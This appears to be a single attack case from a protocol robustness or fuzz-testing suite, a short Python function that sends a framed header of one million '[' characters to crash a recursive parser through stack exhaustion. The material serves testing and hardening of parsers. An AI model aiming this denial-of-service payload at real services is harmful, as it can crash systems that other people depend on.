"""Send a header of a million brackets.

A parser that calls itself runs out of stack.

Held by: frames
Ends: crashed
"""

from wire import framed, write


def attack(facts):
    write(framed(b"[" * 1_000_000))
